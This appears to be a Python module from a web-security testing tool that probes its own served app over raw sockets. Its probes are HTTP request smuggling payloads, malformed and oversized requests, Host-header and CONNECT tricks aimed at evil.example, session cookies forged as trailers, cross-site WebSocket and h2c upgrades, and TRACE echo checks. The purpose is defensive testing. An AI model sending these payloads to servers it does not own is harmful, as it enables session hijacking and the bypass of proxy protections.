"""Attacks that no browser sends: requests that two programs read differently, written byte by byte on a socket."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from doorward.prove.attack import Attack, Try, held, untried, won
from doorward.prove.findings import Severity
from doorward.prove.raw import Place, Raw
from doorward.prove.scene import MEMBER, Scene
from doorward.prove.stories.telling import somebody

NO_SOCKET = "there is no socket: the app runs in this process"
#: What answers a visitor by itself, before the app; every app behind the door has it.
_PATH = "/healthz"
_NEXT = "GET /login?smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n"

#: Where a request ends: ways to say it that programs in a row may read differently. {next} is what is smuggled in.
_FRAMED: dict[str, str] = {
    "a length and chunks": "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{next}",
    "chunks and a length": "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n{next}",
    "an unknown coding": "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{next}",
    "a coding that is none": "Transfer-Encoding: identity\r\n\r\n{next}",
    "a coding before chunked": "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n{next}",
    "chunked twice": "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{next}",
    "chunked, then another": "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n{next}",
    "a space before the colon": "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{next}",
    "a vertical tab": "Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n{next}",
    "a folded coding": "Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n{next}",
    "a quoted coding": 'Transfer-Encoding: "chunked"\r\n\r\n0\r\n\r\n{next}',
    "two lengths": "Content-Length: 0\r\nContent-Length: 5\r\n\r\n{next}",
    "the same length twice": "Content-Length: 0\r\nContent-Length: 0\r\n\r\n{next}",
    "a list of lengths": "Content-Length: 0, 0\r\n\r\n{next}",
    "a length with a sign": "Content-Length: +0\r\n\r\n{next}",
    "a negative length": "Content-Length: -1\r\n\r\n{next}",
    "a length in hexadecimal": "Content-Length: 0x0\r\n\r\n{next}",
    "a length of two numbers": "Content-Length: 0 5\r\n\r\n{next}",
    "an empty length": "Content-Length:\r\n\r\n{next}",
    "an endless length": "Content-Length: 99999999999999999999999\r\n\r\n{next}",
    "a chunk that is longer than it says": "Transfer-Encoding: chunked\r\n\r\n1\r\nxyz\r\n0\r\n\r\n{next}",
    "a chunk without a size": "Transfer-Encoding: chunked\r\n\r\n\r\n{next}",
    "a chunk with a sign": "Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n{next}",
    "a chunk of endless size": "Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\nx\r\n0\r\n\r\n{next}",
    "chunks ended by bare line feeds": "Transfer-Encoding: chunked\r\n\r\n0\n\n{next}",
    "a note to a chunk that ends in a bare line feed": "Transfer-Encoding: chunked\r\n\r\n0;a\n\r\n{next}",
    "a header folded over two lines": "X-A: b\r\n Content-Length: 5\r\n\r\n{next}",
    "a bare carriage return": "X-A: b\rContent-Length: 5\r\n\r\n{next}",
    "a NUL in a value": "X-A: b\0c\r\n\r\n{next}",
    "a NUL in a name": "X\0A: b\r\n\r\n{next}",
    "an upgrade with a body": "Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: 5\r\n\r\nhello{next}",
}
#: Whole requests; {host} is ours.
_WHOLE: dict[str, str] = {
    "bare line feeds": "GET /healthz HTTP/1.1\nHost: {host}\n\n{next}",
    "HTTP/0.9": "GET /healthz\r\n\r\n{next}",
    "HTTP/2.0 in the line": "GET /healthz HTTP/2.0\r\nHost: {host}\r\n\r\n{next}",
    "the opening of HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{next}",
    "chunks in HTTP/1.0": "GET /healthz HTTP/1.0\r\nHost: {host}\r\nConnection: keep-alive\r\n"
    "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{next}",
    "a space before the first header": "GET /healthz HTTP/1.1\r\n Host: {host}\r\n\r\n{next}",
    "an endless address": "GET /healthz?" + "a" * 100_000 + " HTTP/1.1\r\nHost: {host}\r\n\r\n{next}",
    "an endless header": "GET /healthz HTTP/1.1\r\nHost: {host}\r\nX-A: " + "a" * 300_000 + "\r\n\r\n{next}",
    "thousands of headers": "GET /healthz HTTP/1.1\r\nHost: {host}\r\n" + "X-A: b\r\n" * 5000 + "\r\n{next}",
    "an endless trailer": "GET /healthz HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX-A: "
    + "a" * 600_000
    + "\r\n\r\n{next}",
}
_HOSTS: dict[str, str] = {
    "no Host header": "GET /healthz HTTP/1.1\r\n\r\n",
    "two Host headers": "GET /healthz HTTP/1.1\r\nHost: {host}\r\nHost: evil.example\r\n\r\n",
    "an address of another host": "GET http://evil.example/healthz HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "an address with somebody's name": "GET http://evil.example@{host}/healthz HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "another Host header": "GET /login HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "a Host header with somebody's name": "GET /login HTTP/1.1\r\nHost: {host}@evil.example\r\n\r\n",
    "a tunnel": "CONNECT evil.example:443 HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a tunnel to a path": "CONNECT /healthz HTTP/1.1\r\nHost: {host}\r\n\r\n",
}


def _sent(place: Place, text: str) -> Raw:
    """A connection on which this was sent; the caller reads and closes it."""
    wire = Raw(place)
    filled = text.replace("{next}", _NEXT).replace("{host}", place.header)
    wire.send(filled.encode("latin-1"))
    return wire


def _judge(place: Place, what: str, text: str) -> Try:
    """Refused, and nothing of what follows is read as a request."""
    with _sent(place, text) as wire:
        answers = wire.answers()
        refused = bool(answers) and answers[0].status >= 400
        if len(answers) > 1 or (answers and not refused):
            which = "carried out" if not refused else "refused, but what stood inside it was answered"
            return won(f"A request with {what} was {which}.", what, text[:300], answers[0])
        if not wire.closed and text.endswith("{next}"):
            return won(f"After a request with {what} the connection stays open.", what, text[:300])
        return held(what)


def _works(place: Place) -> bool:
    """A sound request on the same way is answered, and so is one behind it."""
    both = f"GET {_PATH} HTTP/1.1\r\nHost: {{host}}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    with _sent(place, both * 2) as wire:
        return [answer.status for answer in wire.answers()] == [200, 200]


def _each(scene: Scene, texts: dict[str, str]) -> Iterator[Try]:
    if scene.place is None:
        yield untried(NO_SOCKET)
        return
    if not _works(scene.place):
        yield untried("a sound request is not answered either")
        return
    for what, text in texts.items():
        yield _judge(scene.place, what, text)


def smuggled(scene: Scene) -> Iterator[Try]:
    head = f"GET {_PATH} HTTP/1.1\r\nHost: {{host}}\r\n"
    yield from _each(scene, {what: head + rest for what, rest in _FRAMED.items()})


def malformed(scene: Scene) -> Iterator[Try]:
    yield from _each(scene, _WHOLE)


def other_hosts(scene: Scene) -> Iterator[Try]:
    yield from _each(scene, _HOSTS)


def inside_bodies(scene: Scene) -> Iterator[Try]:
    """A whole request as the body of another: one answer, not two, also where the first is refused unread."""
    if scene.place is None:
        yield untried(NO_SOCKET)
        return
    inner = _NEXT.replace("{host}", scene.place.header)
    tail = f"Content-Length: {len(inner)}\r\n\r\n{inner}"
    chunked = f"Transfer-Encoding: chunked\r\n\r\n{len(inner):x}\r\n{inner}\r\n0\r\n\r\n"
    for what, method, path, rest in (
        ("the body of a GET", "GET", _PATH, tail),
        ("chunks of a GET", "GET", _PATH, chunked),
        ("the body of a refused POST", "POST", "/login", tail),
        ("chunks of a refused POST", "POST", "/login", chunked),
        ("the body of a POST to nowhere", "POST", "/nowhere", tail),
        ("the body of a page that takes none", "DELETE", _PATH, tail),
        ("a body that is larger than allowed", "POST", "/login", f"Content-Length: 99999999\r\n\r\n{inner}"),
    ):
        with _sent(scene.place, f"{method} {path} HTTP/1.1\r\nHost: {{host}}\r\n{rest}") as wire:
            answers = wire.answers()
        if len(answers) == 1:
            yield held(what)
        elif answers:
            yield won(f"A request that stood in {what} was answered.", what, inner, answers[-1])
        else:
            yield untried("no answer", what)
    twice = f"GET {_PATH} HTTP/1.1\r\nHost: {{host}}\r\n\r\n{inner}"
    with _sent(scene.place, twice) as wire:
        if len(wire.answers()) != 2:
            yield untried("two requests one behind the other are not answered either")


def trailers(scene: Scene) -> Iterator[Try]:
    """Say behind the body who one is: the cookie of somebody signed in, as a trailer."""
    if scene.place is None or scene.host is None:
        yield untried(NO_SOCKET if scene.place is None else "this run has no people of its own")
        return
    member = somebody(scene, "is claimed")
    cookie = "Cookie: " + "; ".join(f"{name}={value}" for name, value in member.cookies.items())
    plain = "GET /account HTTP/1.1\r\nHost: {host}\r\nX-Forwarded-For: 127.0.0.1\r\nX-Forwarded-Proto: http\r\n"
    chunked = "Transfer-Encoding: chunked\r\n\r\n0\r\n"
    statuses = []
    for text in (f"{plain}{cookie}\r\n{chunked}\r\n", f"{plain}{chunked}{cookie}\r\n\r\n"):
        with _sent(scene.place, text) as wire:
            answers = wire.answers()
            statuses.append(answers[0].status if answers else 0)
    if statuses[0] != 200:
        yield untried(f"as a header it did not count either ({statuses[0]})")
    elif statuses[1] == 200:
        yield won("A trailer counts as a header: it opened an account.", "GET /account", plain)
    else:
        yield held("GET /account")


def upgrades(scene: Scene) -> Iterator[Try]:
    """Ask for another protocol: WebSocket from another site, HTTP/2 without TLS."""
    if scene.place is None:
        yield untried(NO_SOCKET)
        return
    cookie = "; ".join(
        f"{name}={value}" for name, value in (scene.people[MEMBER].cookies.items() if scene.host else ())
    )
    socket_headers = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
    for path in ("/", "/live", "/live?topic=x", "/ws"):
        for what, more in (
            ("a WebSocket of another site", f"Upgrade: websocket\r\nOrigin: https://evil.example\r\n{socket_headers}"),
            ("a WebSocket without an origin", f"Upgrade: websocket\r\n{socket_headers}"),
            ("HTTP/2 without TLS", "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"),
        ):
            text = f"GET {path} HTTP/1.1\r\nHost: {{host}}\r\nCookie: {cookie}\r\nConnection: Upgrade\r\n{more}\r\n"
            with _sent(scene.place, text) as wire:
                answers = wire.answers(quiet=0.1)
            if answers and answers[0].status in (101, 200) and (answers[0].status == 101 or path.startswith("/live")):
                yield won(f"{what.capitalize()} was opened at {path}.", path, text.replace(cookie, "…"), answers[0])
            elif answers:
                yield held(path)
            else:
                yield untried("no answer", path)


def traced(scene: Scene) -> Iterator[Try]:
    """TRACE: what comes back must not be what was sent."""
    if scene.place is None:
        yield untried(NO_SOCKET)
        return
    for method in ("TRACE", "TRACK", "DEBUG"):
        text = f"{method} / HTTP/1.1\r\nHost: {{host}}\r\nX-Canary: canary-of-the-trace\r\nMax-Forwards: 0\r\n\r\n"
        with _sent(scene.place, text) as wire:
            answers = wire.answers()
        if answers and (answers[0].status < 400 or b"canary-of-the-trace" in answers[0].body):
            yield won(f"{method} is answered.", method, text, answers[0])
        else:
            yield held(method)


_WHY = (
    "Where a proxy and the server read one request differently, the rest of it becomes a request of whoever comes "
    "next: with their cookies, past every check of the proxy."
)
_MEND = "Serve with `doorward serve`, which refuses what can be read in two ways, and closes the connection."


def _on_socket(
    what: str,
    title: str,
    tries: str,
    run: Callable[[Scene], Iterator[Try]],
    asvs: tuple[str, ...],
    defences: tuple[str, ...],
    why: str = _WHY,
    severity: Severity = Severity.HIGH,
) -> Attack:
    return Attack(
        f"sockets.{what}", title, tries, why, _MEND, asvs, defences, severity=severity, changes=False, on_scene=run
    )


ATTACKS = (
    _on_socket("smuggling", "Requests hide in others",
               f"{len(_FRAMED)} ways to be unclear about where a request ends, with a second request behind it.",
               smuggled, ("4.2.1",), ("framing",)),
    _on_socket("malformed", "Malformed and oversized requests are answered",
               "Old and unknown versions, bare line feeds, endless addresses, headers and trailers.",
               malformed, (), ("size of heads", "framing"),
               "What is not HTTP/1.1 is read differently by each program, and what has no end fills the memory."),
    _on_socket("body", "Bodies are read as requests",
               "A whole request as the body of one that is answered, refused, or too large.",
               inside_bodies, ("4.2.1",), ("one answer a request",)),
    _on_socket("host", "Requests name another host than they are for",
               "Addresses and Host headers that contradict each other, are foreign, missing or double; tunnels.",
               other_hosts, (), ("one host",),
               "Links, cookies and caches follow the host; whoever chooses it chooses where they lead."),
    _on_socket("trailers", "Trailers count as headers", "A session cookie behind the body instead of before it.",
               trailers, ("4.1.3",), ("trailers",),
               "Proxies look at headers, and pass trailers on unread: addresses and identities could be forged there."),
    _on_socket("upgrade", "Connections change to a protocol without the door",
               "WebSocket handshakes from another site and none, and HTTP/2 without TLS, with a member's cookies.",
               upgrades, ("4.4.2",), ("no upgrade",),
               "On an upgraded connection no request passes the door, and browsers open WebSockets from every site."),
    _on_socket("trace", "Requests are echoed", "TRACE, TRACK and DEBUG, with a header to recognise.",
               traced, ("13.4.4",), ("no trace",),
               "An echo shows what proxies added, and cookies that scripts must not see.", Severity.MEDIUM),
)  # fmt: skip
